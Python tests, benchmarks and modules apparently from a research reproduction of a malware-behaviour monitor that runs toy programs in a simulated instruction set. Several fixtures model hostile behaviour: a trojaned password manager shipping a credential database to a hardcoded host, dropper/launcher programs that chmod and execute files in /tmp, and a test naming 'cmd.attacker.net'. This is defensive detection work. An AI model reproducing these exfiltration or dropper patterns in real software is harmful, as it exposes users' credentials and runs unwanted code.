from repro.programs.extensions import extension_workloads
from repro.secpert.correlation import MultiProgramMonitor
from repro.secpert.sessions import (
    CrossSessionMonitor,
    SessionStore,
)
from repro.secpert.warnings import Severity


def by_name(name):
    return next(w for w in extension_workloads() if w.name == name)


class TestMemoryAbuse:
    def test_vundo_trips_both_thresholds(self):
        report = by_name("vundo").run()
        rules = {w.rule for w in report.warnings}
        assert "check_memory_usage" in rules
        assert "check_memory_abuse" in rules
        assert report.verdict is Verdict.MEDIUM

    def test_modest_allocator_is_benign(self):
        report = by_name("allocator").run()
        assert report.verdict is Verdict.BENIGN

    def test_memory_events_report_totals(self):
        from repro.harrier.events import MemoryEvent

        report = by_name("vundo").run()
        events = [e for e in report.events if isinstance(e, MemoryEvent)]
        assert events
        totals = [e.total_allocated for e in events]
        assert totals == sorted(totals)  # monotone heap growth
        assert totals[-1] >= 60 * 4096

    def test_thresholds_configurable(self):
        from repro.secpert.policy import PolicyConfig

        lax = PolicyConfig(
            memory_low_threshold=10_000_000,
            memory_high_threshold=20_000_000,
        )
        report = by_name("vundo").run(policy=lax)
        assert report.verdict is Verdict.BENIGN


class TestExecutableDownload:
    def test_lodeight_flags_download(self):
        report = by_name("lodeight").run()
        downloads = report.warnings_by_rule("check_executable_download")
        assert downloads
        assert downloads[0].severity is Severity.HIGH
        assert "/tmp/.svchost" in downloads[0].headline
        assert any(
            "downloaded from the network" in d for d in downloads[0].details
        )

    def test_text_download_not_flagged_as_executable(self):
        # the Table 6 socket->file benchmarks move *text* payloads; none
        # of them fire the executable-download rule
        from repro.programs.micro.infoflow import table6_workloads

        socket_rows = [
            w for w in table6_workloads() if w.name.startswith("Socket")
        ]
        for workload in socket_rows:
            report = workload.run()
            assert report.warnings_by_rule("check_executable_download") == []

    def test_sniffer(self):
        from repro.harrier.content import sniff_content

        assert sniff_content(b"\x7fEXE...") == "executable"
        assert sniff_content(b"\x7fELF\x02") == "executable"
        assert sniff_content(b"MZ\x90") == "executable"
        assert sniff_content(b"#!/bin/sh\n") == "script"
        assert sniff_content(b"hello world\n") == "text"
        assert sniff_content(b"\x00\x01\x02") == "binary"
        assert sniff_content(b"") == "empty"


TWO_STAGE_SOURCE = r"""
main:
    mov ebx, dropfile
    mov ecx, 0
    call open
    cmp eax, 0
    jl stage1
    mov ebx, eax
    call close
    mov ebx, dropfile
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
stage1:
    mov ebx, dropfile
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
dropfile: .asciz "/tmp/.stage2"
payload: .asciz "stage two payload"
"""


class TestCrossSession:
    def make_monitor(self):
        monitor = CrossSessionMonitor()
        image = assemble("/home/user/twostage", TWO_STAGE_SOURCE)
        monitor.hth.register_binary(image)
        return monitor, image

    def test_first_session_deferred_to_low(self):
        monitor, image = self.make_monitor()
        s1 = monitor.run_session(image)
        assert s1.verdict is Verdict.LOW
        assert [w.rule for w in s1.warnings] == [
            "check_binary_to_file:deferred"
        ]
        assert any(
            "Cross-session tracking" in d
            for d in s1.warnings[0].details
        )

    def test_second_session_escalates_to_high(self):
        monitor, image = self.make_monitor()
        monitor.run_session(image)
        s2 = monitor.run_session("/home/user/twostage")
        assert s2.verdict is Verdict.HIGH
        uses = [w for w in s2.warnings
                if w.rule == "check_cross_session_use"]
        assert uses
        assert any("SYS_execve" in w.headline for w in uses)
        assert any("session 1" in d for w in uses for d in w.details)

    def test_same_session_use_not_escalated(self):
        # drop + use within ONE session falls back to the normal rules
        monitor = CrossSessionMonitor()
        combined = assemble(
            "/home/user/onestage",
            r"""
main:
    mov ebx, dropfile
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov ebx, dropfile
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
dropfile: .asciz "/tmp/.now"
payload: .asciz "x"
""",
        )
        s1 = monitor.run_session(combined)
        assert not [w for w in s1.warnings
                    if w.rule == "check_cross_session_use"]

    def test_store_session_accounting(self):
        store = SessionStore()
        assert store.begin_session("/p") == 1
        store.record_drop("/p", "/tmp/a")
        assert store.dropped_in_earlier_session("/p", "/tmp/a") is None
        assert store.begin_session("/p") == 2
        assert store.dropped_in_earlier_session("/p", "/tmp/a") == 1
        assert store.dropped_in_earlier_session("/p", "/tmp/b") is None
        assert store.dropped_in_earlier_session("/other", "/tmp/a") is None

    def test_sessions_list_accumulates(self):
        monitor, image = self.make_monitor()
        monitor.run_session(image)
        monitor.run_session("/home/user/twostage")
        assert [s.session for s in monitor.sessions] == [1, 2]


DROPPER_SOURCE = r"""
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
payload: .asciz "innocuous content"
"""

LAUNCHER_SOURCE = r"""
main:
    mov ebp, esp
    mov ebx, 2000
    call sleep
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0x1ed
    call chmod
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
"""


class TestMultiProgram:
    def run_pair(self, same_group=False):
        monitor = MultiProgramMonitor()
        dropper = assemble("/opt/dropper", DROPPER_SOURCE)
        launcher = assemble("/opt/launcher", LAUNCHER_SOURCE)
        group = {"group": "suite"} if same_group else {}
        monitor.spawn(dropper, argv=["/opt/dropper", "/tmp/part2"], **group)
        monitor.spawn(launcher, argv=["/opt/launcher", "/tmp/part2"],
                      **group)
        result = monitor.run()
        assert result.reason == "all-exited"
        return monitor

    def test_cross_program_interaction_flagged(self):
        monitor = self.run_pair()
        interactions = monitor.interaction_warnings()
        assert interactions
        warning = interactions[0]
        assert warning.severity is Severity.MEDIUM
        assert "/opt/dropper" in warning.render()
        assert "/opt/launcher" in warning.render()

    def test_interaction_reported_once_per_triple(self):
        monitor = self.run_pair()
        # chmod and execve both touch the file, but one (creator, user,
        # path) triple is reported once
        assert len(monitor.interaction_warnings()) == 1

    def test_same_group_not_flagged(self):
        # the g++ case: parent + helpers form one program group
        monitor = self.run_pair(same_group=True)
        assert monitor.interaction_warnings() == []

    def test_fork_children_inherit_group(self):
        monitor = MultiProgramMonitor()
        forker = assemble(
            "/opt/forker",
            r"""
main:
    call fork
    cmp eax, 0
    jz child
    mov eax, 0
    ret
child:
    mov ebx, dropfile
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, msg
    call fputs
    mov ebx, esi
    call close
    mov ebx, dropfile
    mov ecx, 0x1ed
    call chmod
    mov ebx, 0
    call exit
.data
dropfile: .asciz "/tmp/own"
msg: .asciz "mine"
""",
        )
        monitor.spawn(forker)
        result = monitor.run()
        assert result.reason == "all-exited"
        # the child chmods its *own* program group's file: no interaction
        assert monitor.interaction_warnings() == []


class TestSessionStorePersistence:
    def test_save_load_roundtrip(self, tmp_path):
        store = SessionStore()
        store.begin_session("/p")
        store.record_drop("/p", "/tmp/a")
        store.begin_session("/q")
        path = tmp_path / "store.json"
        store.save(path)
        restored = SessionStore.load(path)
        # the restored store continues where the saved one left off
        assert restored.begin_session("/p") == 2
        assert restored.dropped_in_earlier_session("/p", "/tmp/a") == 1
        assert restored.history("/q").sessions == 1

    def test_escalation_survives_restart(self, tmp_path):
        """Drop in one monitor process, escalate in a fresh one - the
        cross-session state round-trips through disk."""
        monitor = CrossSessionMonitor()
        image = assemble("/home/user/twostage", TWO_STAGE_SOURCE)
        monitor.hth.register_binary(image)
        monitor.run_session(image)
        path = tmp_path / "store.json"
        monitor.store.save(path)

        fresh = CrossSessionMonitor()
        fresh.store = SessionStore.load(path)
        fresh.analyzer.store = fresh.store
        fresh.hth.register_binary(image)
        # the dropped file must exist on the "machine" too
        fresh.hth.fs.write_text("/tmp/.stage2", "stage two payload")
        session = fresh.run_session(image)
        assert any(
            w.rule == "check_cross_session_use" for w in session.warnings
        )
