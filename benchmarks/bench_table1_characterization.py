"""Table 1 — execution patterns exhibited by malicious code.

Regenerates the characterization matrix of nine real-world exploits
(section 2.1/2.2) from the structured profiles, then measures the
runtime *footprint* of the runnable analogues straight from the
telemetry registry (instructions, syscalls, monitor event volumes).
"""

from benchmarks.harness import (
    FOOTPRINT_METRICS,
    once,
    render_table,
    workload_footprint,
    write_result,
)
from repro.analysis.characterization import TABLE1_PROFILES, table1_rows
from repro.programs.scenarios import scenario_workloads


def bench_table1_characterization(benchmark):
    rows = once(benchmark, table1_rows)
    text = render_table(
        "Table 1: Execution patterns exhibited by malicious code",
        ("Exploit Name", "No user intervention", "Remotely directed",
         "Hard-coded Resources", "Degrading performance"),
        rows,
    )
    write_result("table1_characterization.txt", text)
    print("\n" + text)
    assert len(rows) == 9
    # the defining Trojan property holds for every profiled exploit
    assert all(p.no_user_intervention for p in TABLE1_PROFILES)


def bench_table1_workload_footprint(benchmark):
    """Registry-sourced execution footprint of the §2.1 analogues."""
    workloads = scenario_workloads()

    def run():
        return [(w.name, workload_footprint(w)) for w in workloads]

    footprints = once(benchmark, run)
    labels = [label for label, _ in FOOTPRINT_METRICS]
    rows = [
        (name, *(f"{counts[label]:,.0f}" for label in labels))
        for name, counts in footprints
    ]
    text = render_table(
        "Table 1 (footprint): registry totals per runnable analogue",
        ("Exploit", *labels),
        rows,
    )
    write_result("table1_workload_footprint.txt", text)
    print("\n" + text)
    # every analogue actually executed and was observed by the monitor
    for name, counts in footprints:
        assert counts["instructions"] > 0, name
        assert counts["syscalls"] > 0, name
        assert counts["harrier events"] > 0, name
