"""Serve wire protocol: submissions and events survive the round trip.

The protocol is the daemon's outermost contract — everything a client
can say must rebuild bit-for-bit on the worker side (including the
RunOptions subset and fault-profile scalars), and everything malformed
must be a typed :class:`ProtocolError`, never a stack trace mid-stream.
"""

import pytest

from repro.core.options import DEFAULT_MAX_TICKS, RunOptions
from repro.faultinject.plan import FaultProfile
from repro.serve.protocol import (
    SERVE_SCHEMA_VERSION,
    TERMINAL_KINDS,
    ProtocolError,
    Submission,
    accepted_event,
    decode_line,
    encode_event,
    options_from_wire,
    options_to_wire,
    rejected_event,
)


class TestSubmissionRoundTrip:
    def test_inline_source_round_trips(self):
        sub = Submission(
            source="main:\n    ret\n",
            path="/bin/backdoor",
            argv=("/bin/backdoor", "-q"),
            stdin="hello\n",
            files={"/etc/passwd": "root:x:0:0\n"},
            peers={"cmd.attacker.net:5150": "/bin/date\n",
                   "sink.example.org:80": ""},
            options=RunOptions(max_ticks=123456, wall_timeout=9.5,
                               metrics=True),
            tenant="acme",
            name="backdoor-probe",
        )
        back = Submission.from_wire(sub.to_wire())
        assert back == sub

    def test_workload_reference_round_trips(self):
        sub = Submission(workload=("4", "Remote execve"), tenant="t1")
        back = Submission.from_wire(sub.to_wire())
        assert back == sub
        assert back.workload == ("4", "Remote execve")

    def test_wire_is_plain_json(self):
        import json

        sub = Submission(source="main:\n    ret\n", argv=("/bin/g",))
        line = encode_event(sub.to_wire())
        assert Submission.from_wire(json.loads(line)) == sub

    def test_needs_exactly_one_of_source_or_workload(self):
        with pytest.raises(ProtocolError, match="exactly one"):
            Submission()
        with pytest.raises(ProtocolError, match="exactly one"):
            Submission(source="main:\n ret\n", workload=("4", "Hardcode"))

    def test_future_schema_version_rejected(self):
        wire = Submission(source="main:\n ret\n").to_wire()
        wire["schema_version"] = SERVE_SCHEMA_VERSION + 1
        with pytest.raises(ProtocolError, match="schema_version"):
            Submission.from_wire(wire)

    def test_non_object_rejected(self):
        with pytest.raises(ProtocolError, match="JSON object"):
            Submission.from_wire(["not", "a", "mapping"])


class TestOptionsOnTheWire:
    def test_missing_options_means_defaults(self):
        assert options_from_wire(None) == RunOptions()

    def test_option_fields_round_trip(self):
        options = RunOptions(
            block_cache=False, taint_fastpath=False, metrics=True,
            max_ticks=777, wall_timeout=3.0,
        )
        assert options_from_wire(options_to_wire(options)) == options

    def test_unknown_option_field_rejected(self):
        with pytest.raises(ProtocolError, match="unknown options"):
            options_from_wire({"policy": "server-side-only"})

    def test_fault_profile_scalars_travel(self):
        options = RunOptions(
            fault_profile=FaultProfile(stall_rate=0.25, errno_rate=0.1),
            fault_seed=42,
        )
        back = options_from_wire(options_to_wire(options))
        assert back.fault_seed == 42
        assert back.fault_profile.stall_rate == 0.25
        assert back.fault_profile.errno_rate == 0.1

    def test_unknown_fault_field_rejected(self):
        with pytest.raises(ProtocolError, match="unknown fault"):
            options_from_wire({"fault": {"seed": 1, "blast_radius": 9}})

    def test_defaults_survive_an_empty_wire_dict(self):
        options = options_from_wire({})
        assert options.max_ticks == DEFAULT_MAX_TICKS
        assert options.wall_timeout is None
        assert options.fault_profile is None


class TestEvents:
    def test_encode_decode_round_trip(self):
        event = accepted_event("job-7", 3)
        assert decode_line(encode_event(event)) == event

    def test_rejected_event_carries_reason_and_schema(self):
        event = rejected_event("queue-full", "depth 64/64")
        assert event["kind"] == "rejected"
        assert event["schema_version"] == SERVE_SCHEMA_VERSION
        assert event["reason"] == "queue-full"

    def test_terminal_kinds_cover_every_way_a_stream_ends(self):
        assert TERMINAL_KINDS == {"rejected", "report", "error"}

    def test_undecodable_line_is_a_protocol_error(self):
        with pytest.raises(ProtocolError, match="undecodable"):
            decode_line(b"not json at all\n")
        with pytest.raises(ProtocolError, match="JSON object"):
            decode_line(b"[1, 2, 3]\n")
