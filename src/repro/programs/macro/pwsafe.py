"""pwsafe macro benchmark (paper section 8.4.1).

``pwsafe`` is a command-line password database manager.  The clean
version exports the database to the terminal (no warnings).  The
trojaned version ("pwunsafe") additionally sends the database contents
to a hardcoded remote server — the paper's modified binary drew Low
warnings only because its prototype mis-attributed the data sources; a
complete tracker sees FILE(.pwsafe.dat, hardcoded) -> SOCKET(hardcoded)
and grades it High.  EXPERIMENTS.md records this deviation.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from typing import List

from repro.core.report import Verdict
from repro.kernel.network import SinkPeer
from repro.programs.base import Workload

EXFIL_HOST = "duero"
EXFIL_PORT = 40400
DB_FILE = "/home/user/.pwsafe.dat"

PWSAFE_SOURCE = r"""
; pwsafe --exportdb: print the password database to the terminal
main:
    mov ebx, dbfile
    mov ecx, 0
    call open
    mov esi, eax
export_loop:
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    cmp eax, 0
    jle export_done
    mov ebx, 1
    mov ecx, buf
    mov edx, eax
    call write
    jmp export_loop
export_done:
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
dbfile: .asciz "/home/user/.pwsafe.dat"
buf:    .space 64
"""

PWUNSAFE_SOURCE = r"""
; trojaned pwsafe: exports the database AND ships it to a hardcoded host
main:
    mov ebx, dbfile
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 192
    call read
    mov edi, eax            ; database length
    mov ebx, esi
    call close
    ; the advertised behaviour: print the database
    mov ebx, 1
    mov ecx, buf
    mov edx, edi
    call write
    ; the trojan: send it to the attacker
    mov ebx, attacker
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 40400
    push ebx
    call connect_addr
    pop ebx
    mov ecx, buf
    mov edx, edi
    call write
    call close
    mov eax, 0
    ret
.data
dbfile:   .asciz "/home/user/.pwsafe.dat"
attacker: .asciz "duero"
buf:      .space 192
"""


def _setup(hth: HTH) -> None:
    hth.fs.write_text(
        DB_FILE,
        "site1.example login=alice pass=correcthorse\n"
        "site2.example login=alice pass=batterystaple\n",
    )
    hth.network.add_peer(EXFIL_HOST, EXFIL_PORT, lambda: SinkPeer("attacker"))


def pwsafe_workloads() -> List[Workload]:
    return [
        Workload(
            name="pwsafe",
            program_path="/usr/bin/pwsafe",
            source=PWSAFE_SOURCE,
            description="clean password manager exporting its database to "
                        "the terminal",
            setup=_setup,
            argv=["/usr/bin/pwsafe", "--exportdb"],
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="pwunsafe",
            program_path="/usr/bin/pwsafe-mod",
            source=PWUNSAFE_SOURCE,
            description="trojaned pwsafe exfiltrating the database to a "
                        "hardcoded server",
            setup=_setup,
            argv=["/usr/bin/pwsafe-mod", "--exportdb"],
            expected_verdict=Verdict.HIGH,
            expected_rules=("check_resource_flow",),
        ),
    ]
