"""Instruction set of the mini-ISA.

A deliberately small register machine: enough surface for the guest
workloads (string handling, loops, syscalls, calls into shared objects) and
for Harrier's per-instruction dataflow tracking, without x86's baggage.

Each instruction occupies exactly one address unit, so ``pc + 1`` is always
the fall-through successor and basic-block discovery is trivial.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Optional, Tuple, Union

from repro.isa.registers import check_register


class Opcode(enum.Enum):
    # Data movement
    MOV = "mov"        # mov dst_reg, (reg|imm|label-address)
    LOAD = "load"      # load dst_reg, [base_reg +/- offset]
    STORE = "store"    # store [base_reg +/- offset], (reg|imm)
    PUSH = "push"      # push (reg|imm)
    POP = "pop"        # pop dst_reg
    # Arithmetic / logic (dst op= src; sets flags)
    ADD = "add"
    SUB = "sub"
    MUL = "mul"
    DIV = "div"        # integer division (toward zero)
    MOD = "mod"
    XOR = "xor"
    AND = "and"
    OR = "or"
    SHL = "shl"
    SHR = "shr"
    # Compare / control transfer
    CMP = "cmp"        # cmp a_reg, (reg|imm); sets zf/sf
    JMP = "jmp"
    JZ = "jz"
    JNZ = "jnz"
    JL = "jl"
    JLE = "jle"
    JG = "jg"
    JGE = "jge"
    CALL = "call"      # call label | call reg (indirect)
    RET = "ret"
    # System interface
    INT = "int"        # int 0x80 -> kernel syscall
    CPUID = "cpuid"    # hardware identification (HARDWARE data source)
    NOP = "nop"
    HLT = "hlt"        # abnormal stop (fault)


#: Opcodes that end a basic block.
CONTROL_TRANSFER_OPCODES = frozenset(
    {
        Opcode.JMP,
        Opcode.JZ,
        Opcode.JNZ,
        Opcode.JL,
        Opcode.JLE,
        Opcode.JG,
        Opcode.JGE,
        Opcode.CALL,
        Opcode.RET,
        Opcode.HLT,
    }
)

#: Conditional branches (have both a taken target and a fall-through).
CONDITIONAL_OPCODES = frozenset(
    {Opcode.JZ, Opcode.JNZ, Opcode.JL, Opcode.JLE, Opcode.JG, Opcode.JGE}
)

#: Binary ALU operations, opcode -> python implementation.
ALU_OPCODES = frozenset(
    {
        Opcode.ADD,
        Opcode.SUB,
        Opcode.MUL,
        Opcode.DIV,
        Opcode.MOD,
        Opcode.XOR,
        Opcode.AND,
        Opcode.OR,
        Opcode.SHL,
        Opcode.SHR,
    }
)


@dataclass(frozen=True)
class Reg:
    """A register operand."""

    name: str

    def __post_init__(self) -> None:
        check_register(self.name)

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True)
class Imm:
    """An immediate operand.

    Immediates are data embedded in the binary, so Harrier tags values they
    produce with the BINARY data source of the enclosing image (paper
    section 7.3.1, the ``movl $0x4, mem`` example).

    ``symbol`` records the assembly-time symbol this immediate came from,
    when it was written as a label reference; the loader rewrites ``value``
    during relocation.
    """

    value: int
    symbol: Optional[str] = None

    def __str__(self) -> str:
        if self.symbol is not None:
            return f"${self.symbol}"
        return f"${self.value:#x}"


@dataclass(frozen=True)
class Mem:
    """A base-plus-displacement memory operand ``[reg + offset]``."""

    base: str
    offset: int = 0

    def __post_init__(self) -> None:
        check_register(self.base)

    def __str__(self) -> str:
        if self.offset == 0:
            return f"[{self.base}]"
        sign = "+" if self.offset >= 0 else "-"
        return f"[{self.base}{sign}{abs(self.offset)}]"


Operand = Union[Reg, Imm, Mem]


@dataclass(frozen=True)
class Instruction:
    """One decoded instruction.

    ``a`` and ``b`` are the (up to) two operands; their legal shapes depend
    on the opcode and are validated by the assembler.
    """

    opcode: Opcode
    a: Optional[Operand] = None
    b: Optional[Operand] = None
    #: Source line (1-based) in the assembly unit, for diagnostics.
    line: int = 0

    def operands(self) -> Tuple[Operand, ...]:
        out = []
        if self.a is not None:
            out.append(self.a)
        if self.b is not None:
            out.append(self.b)
        return tuple(out)

    def is_control_transfer(self) -> bool:
        return self.opcode in CONTROL_TRANSFER_OPCODES

    def __str__(self) -> str:
        parts = [self.opcode.value]
        ops = ", ".join(str(op) for op in self.operands())
        if ops:
            parts.append(ops)
        return " ".join(parts)
