"""Live overhead profiler: where does the monitor's wall time go?

The paper's §8/§9 overhead study compares native execution against
monitoring with basic-block frequency counting (+bbfreq), full dataflow
tracking (+dataflow), and the expert-system analysis.  The
:class:`StageProfiler` reproduces that breakdown from a *single* run:
Harrier attributes the wall time of each per-instruction component and
each analysis dispatch to a stage, the kernel reports total run wall
time, and whatever is left is the ``native`` stage (guest execution plus
kernel bookkeeping — what a run with monitoring off would cost).
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

STAGE_NATIVE = "native"
STAGE_BBFREQ = "bbfreq"
STAGE_DATAFLOW = "dataflow"
STAGE_ANALYSIS = "analysis"

#: Stage order mirrors the paper's cumulative configurations:
#: native → +bbfreq → +dataflow → full (analysis on top).
STAGES: Tuple[str, ...] = (
    STAGE_NATIVE, STAGE_BBFREQ, STAGE_DATAFLOW, STAGE_ANALYSIS
)


class StageProfiler:
    """Accumulates per-stage wall seconds for one or more runs."""

    def __init__(self) -> None:
        self._stage_seconds: Dict[str, float] = {
            STAGE_BBFREQ: 0.0,
            STAGE_DATAFLOW: 0.0,
            STAGE_ANALYSIS: 0.0,
        }
        self._run_wall = 0.0
        self.runs = 0

    # -- recording ---------------------------------------------------------
    def add(self, stage: str, seconds: float) -> None:
        self._stage_seconds[stage] = (
            self._stage_seconds.get(stage, 0.0) + seconds
        )

    def add_run(self, wall_seconds: float) -> None:
        """Record the total wall time of one kernel run."""
        self._run_wall += wall_seconds
        self.runs += 1

    # -- reading -----------------------------------------------------------
    @property
    def total_seconds(self) -> float:
        return self._run_wall

    def breakdown(self) -> Dict[str, float]:
        """Stage → wall seconds; ``native`` is the unattributed remainder."""
        monitored = sum(self._stage_seconds.values())
        native = max(self._run_wall - monitored, 0.0)
        out = {STAGE_NATIVE: native}
        out.update(self._stage_seconds)
        return out

    def shares(self) -> Dict[str, float]:
        """Stage → fraction of total run wall time."""
        total = self._run_wall or sum(self._stage_seconds.values()) or 1.0
        return {
            stage: seconds / total
            for stage, seconds in self.breakdown().items()
        }

    def slowdowns(self) -> Dict[str, float]:
        """Cumulative slowdown estimates vs native, §9-style.

        ``native``→1.0, ``bbfreq``→(native+bbfreq)/native, ``dataflow``→
        (native+bbfreq+dataflow)/native, ``analysis``→total/native.
        """
        b = self.breakdown()
        native = b[STAGE_NATIVE]
        if native <= 0:
            return {stage: 1.0 for stage in STAGES}
        out: Dict[str, float] = {}
        running = 0.0
        for stage in STAGES:
            running += b.get(stage, 0.0)
            out[stage] = running / native
        return out

    def to_dict(self) -> Dict[str, object]:
        return {
            "runs": self.runs,
            "total_seconds": self.total_seconds,
            "stage_seconds": self.breakdown(),
            "stage_shares": self.shares(),
            "cumulative_slowdown": self.slowdowns(),
        }

    @classmethod
    def from_dicts(
        cls, profiles: Iterable[Optional[Dict[str, object]]]
    ) -> Optional["StageProfiler"]:
        """Rebuild one profiler from several ``to_dict()`` snapshots.

        The fleet coordinator merges per-run stage profiles from many
        workers: attributed stage seconds and run wall time add, and the
        shares/slowdowns are recomputed from the merged totals.  Returns
        ``None`` when no snapshot carried a profile.
        """
        merged = cls()
        seen = False
        for profile in profiles:
            if not profile:
                continue
            seen = True
            for stage, seconds in profile["stage_seconds"].items():
                if stage != STAGE_NATIVE:
                    merged.add(stage, float(seconds))
            merged._run_wall += float(profile["total_seconds"])
            merged.runs += int(profile["runs"])
        return merged if seen else None

    def render(self, title: str = "Monitor overhead profile") -> str:
        """The §8 breakdown as a table."""
        breakdown = self.breakdown()
        shares = self.shares()
        slowdowns = self.slowdowns()
        config = {
            STAGE_NATIVE: "native",
            STAGE_BBFREQ: "native+bbfreq",
            STAGE_DATAFLOW: "native+bbfreq+dataflow",
            STAGE_ANALYSIS: "full monitor",
        }
        rows: List[str] = [
            title,
            "=" * len(title),
            f"{'stage':10s} {'wall time':>12s} {'share':>7s} "
            f"{'cumulative slowdown':>22s}",
        ]
        for stage in STAGES:
            rows.append(
                f"{stage:10s} {breakdown[stage] * 1000:9.3f} ms "
                f"{shares[stage] * 100:6.1f}% "
                f"{slowdowns[stage]:8.2f}x ({config[stage]})"
            )
        rows.append(
            f"{'total':10s} {self.total_seconds * 1000:9.3f} ms "
            f"{100.0:6.1f}%"
        )
        return "\n".join(rows)
