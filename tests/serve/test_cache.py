"""The daemon's verdict cache: rate-metered hits, bit-identical replies.

Serve-specific cache promises: a repeat submission is answered from the
daemon-level cache without a queue slot or tick spend (its tenant rate
token is still charged, so replay storms stay bounded), the reply
(report *and* streamed warnings) is bit-identical to the fresh stream,
``accepted``/``report`` events carry ``cached``, v1 clients still work,
fault/chaos submissions always execute, and no per-submission compute
(assembly, key digests, triage) happens for rate-limited clients.
"""

import asyncio
import contextlib
import json

from repro.serve import ServeDaemon, Submission, submit_async
from repro.serve.admission import REASON_TICK_BUDGET
from repro.serve.protocol import (
    SERVE_SCHEMA_VERSION,
    SUPPORTED_SCHEMA_VERSIONS,
    encode_event,
    options_from_wire,
    options_to_wire,
)
from repro.core.options import RunOptions

TROJAN = ("4", "Remote execve")

_SOURCE = """
.data
msg: .asciz "/etc/passwd"
.text
main:
    mov eax, 5
    mov ebx, msg
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
"""


def run(coro, timeout=120.0):
    return asyncio.run(asyncio.wait_for(coro, timeout))


@contextlib.asynccontextmanager
async def daemon(tmp_path, **kwargs):
    kwargs.setdefault("unix_path", str(tmp_path / "serve.sock"))
    kwargs.setdefault("workers", 1)
    d = ServeDaemon(**kwargs)
    await d.start()
    await d.wait_ready()
    try:
        yield d
    finally:
        await d.shutdown(drain=True, timeout=60.0)


def kinds(events):
    return [e.get("kind") for e in events]


def dumps(value):
    return json.dumps(value, sort_keys=True, default=str)


class TestServeCacheHits:
    def test_repeat_submission_is_cached_and_bit_identical(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(workload=TROJAN)
                fresh = await submit_async(d.unix_path, sub)
                hit = await submit_async(d.unix_path, sub)
                return fresh, hit, d._healthz(), d._stats()

        fresh, hit, healthz, stats = run(main())
        assert kinds(fresh) == kinds(hit)
        assert fresh[0]["cached"] is False
        assert hit[0]["cached"] is True
        assert fresh[-1]["cached"] is False
        assert hit[-1]["cached"] is True
        assert dumps(fresh[-1]["report"]) == dumps(hit[-1]["report"])
        fresh_warnings = [e["warning"] for e in fresh
                          if e["kind"] == "warning"]
        hit_warnings = [e["warning"] for e in hit
                        if e["kind"] == "warning"]
        assert fresh_warnings and dumps(fresh_warnings) == \
            dumps(hit_warnings)
        assert healthz["cache"] == {
            "enabled": True, "hits": 1, "misses": 1, "hit_rate": 0.5,
        }
        assert stats["cache"]["namespace"] == "serve"
        assert stats["cache"]["hits"] == 1

    def test_inline_source_submissions_cache_too(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(source=_SOURCE, path="/bin/t",
                                 files={"/etc/passwd": "root:x"},
                                 name="inline")
                fresh = await submit_async(d.unix_path, sub)
                hit = await submit_async(d.unix_path, sub)
                # One changed seeded-file byte must execute fresh.
                variant = await submit_async(d.unix_path, Submission(
                    source=_SOURCE, path="/bin/t",
                    files={"/etc/passwd": "root:y"}, name="inline",
                ))
                return fresh, hit, variant

        fresh, hit, variant = run(main())
        assert hit[-1]["cached"] is True
        assert dumps(fresh[-1]["report"]) == dumps(hit[-1]["report"])
        assert variant[-1]["cached"] is False

    def test_hits_do_not_consume_tick_budget(self, tmp_path):
        """A cache hit claims no queue slot and no tick spend — repeat
        traffic costs only a rate token even under a strict budget."""
        budget = RunOptions().max_ticks  # exactly one fresh submission

        async def main():
            async with daemon(tmp_path, tick_rate=0.001,
                              tick_burst=budget) as d:
                sub = Submission(workload=TROJAN)
                fresh = await submit_async(d.unix_path, sub)
                hits = []
                for _ in range(3):
                    hits.append(await submit_async(d.unix_path, sub))
                # A *different* submission needs real budget: rejected.
                other = await submit_async(d.unix_path, Submission(
                    workload=("4", "Hardcode")
                ))
                return fresh, hits, other

        fresh, hits, other = run(main())
        assert fresh[-1]["kind"] == "report"
        for hit in hits:
            assert hit[-1]["kind"] == "report"
            assert hit[-1]["cached"] is True
        assert other[-1]["kind"] == "rejected"
        assert other[-1]["reason"] == REASON_TICK_BUDGET


class TestAdmissionOrdering:
    """The rate precheck runs before any per-submission compute, the
    daemon's assemble memo is bounded, and its disk tier is data-only
    JSON — an overload or a writable cache_dir cannot become unbounded
    memory, a wedged event loop, or code execution."""

    def test_rate_limited_submissions_never_reach_assembly(self, tmp_path):
        from repro.serve.admission import REASON_RATE_LIMITED

        async def main():
            async with daemon(tmp_path, rate=0.001, burst=1.0) as d:
                first = await submit_async(d.unix_path, Submission(
                    source=_SOURCE, path="/bin/t", name="inline"))
                assembled = d._engine.stats()["images"]
                # Rate-drained: a *novel* source must be turned away
                # before the daemon assembles or digests it.
                second = await submit_async(d.unix_path, Submission(
                    source=_SOURCE.replace("mov ebx, 0", "mov ebx, 9"),
                    path="/bin/t", name="inline"))
                return first, second, assembled, d._engine.stats()["images"]

        first, second, before, after = run(main())
        assert first[-1]["kind"] == "report"
        assert second[-1]["kind"] == "rejected"
        assert second[-1]["reason"] == REASON_RATE_LIMITED
        assert after == before

    def test_daemon_assemble_memo_is_bounded(self, tmp_path):
